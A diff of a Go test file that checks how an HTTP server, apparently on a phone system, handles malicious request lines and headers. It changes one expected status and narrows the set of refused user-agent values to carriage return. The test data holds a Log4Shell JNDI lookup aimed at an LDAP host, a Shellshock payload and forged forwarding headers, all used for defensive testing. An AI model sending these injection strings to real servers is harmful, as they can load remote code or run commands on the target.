@@ -45,7 +45,7 @@ func TestHostAttacks(t *testing.T) {
 		{"absolute URI without a host", "GET http:" + phoneTarget + " HTTP/1.1\r\nHost: pbx.test\r\nConnection: close\r\n\r\n", 200},
 		{"absolute URI with a control character", "GET http://pbx.test\x01" + phoneTarget + " HTTP/1.1\r\nHost: pbx.test\r\nConnection: close\r\n\r\n", 400},
 		{"opaque URI", "GET mailto:" + marker + " HTTP/1.1\r\nHost: pbx.test\r\nConnection: close\r\n\r\n", 404},
-		{"forwarded", raw("Host: pbx.test", "X-Forwarded-Host: "+marker, "X-Forwarded-Server: "+marker, "Forwarded: host="+marker, "X-Original-URL: /"+marker, "X-Rewrite-URL: /"+marker, "Connection: close"), 200},
+		{"forwarded", raw("Host: pbx.test", "X-Forwarded-Host: "+marker, "X-Forwarded-Server: "+marker, "Forwarded: host="+marker, "X-Original-URL: /"+marker, "X-Rewrite-URL: /"+marker, "Connection: close"), 404},
 	}
 	var tests []attackTest
 	for _, tt := range hosts {
@@ -78,7 +78,7 @@ func TestHeaderAttacks(t *testing.T) {
 		"right to left": "\xe2\x80\xaex", "not UTF-8": "\xff\xfe", "long": strings.Repeat("x", 12<<10), "braces": "${SECRET}", "delete": "\x7f",
 		"log4j": "${jndi:ldap://192.0.2.1/" + marker + "}", "shell": "() { :;}; echo " + marker,
 	}
-	refused := map[string]bool{"escape sequence": true, "carriage return": true, "NUL": true, "backspace": true, "delete": true}
+	refused := map[string]bool{"carriage return": true} // the others are served: a real phone has such
 	var tests []attackTest
 	for name, agent := range agents {
 		status := 200
